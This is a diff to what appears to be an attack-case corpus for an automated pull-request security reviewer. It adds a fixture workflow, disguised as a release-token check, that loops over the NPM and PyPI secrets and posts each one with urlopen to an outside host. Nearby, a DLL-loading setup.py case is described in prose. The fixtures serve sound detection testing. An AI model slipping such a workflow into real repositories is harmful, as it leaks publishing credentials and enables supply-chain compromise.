@@ -1116,6 +1116,42 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-ghostaction-python-step-loops-over-token-names',
+    description:
+      'The GhostAction loop written as a `shell: python` step: a "check release tokens" workflow binds the npm and PyPI tokens in the step\'s env, loops over their names written out (`for n in ("NPM_TOKEN", "PYPI_TOKEN"):`) and posts each value with urlopen to an ordinary-looking host: no curl, no secret named on the line that sends.',
+    fixture: () =>
+      attackPr({
+        repo: 'yamlfix',
+        number: 7319,
+        title: 'ci: check release tokens',
+        files: [
+          {
+            path: '.github/workflows/release-tokens.yml',
+            head: lines(
+              'name: Release tokens',
+              'on:',
+              '  push:',
+              '  workflow_dispatch:',
+              'jobs:',
+              '  check:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - name: Verify',
+              '        shell: python',
+              '        env:',
+              '          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}',
+              '          PYPI_TOKEN: ${{ secrets.PYPI_API_TOKEN }}',
+              '        run: |',
+              '          import os, urllib.request',
+              '          for n in ("NPM_TOKEN", "PYPI_TOKEN"):',
+              "              urllib.request.urlopen('https://tokens.ci-verify-pages.net/v', data=(n + '=' + os.environ[n]).encode())",
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
     id: 'attack-setup-py-loads-bundled-dll',
     description:
       'The eslint-config-prettier and `is` releases of July 2025 (a stolen maintainer token; an install script had rundll32 load a DLL shipped in the package) moved to PyPI: a "Windows support" PR makes setup.py, at module level, load a DLL of the package with ctypes.WinDLL and call its entry point on every Windows install from source; the DLL came in an earlier release, and the diff shows no download, no process, no secret.',
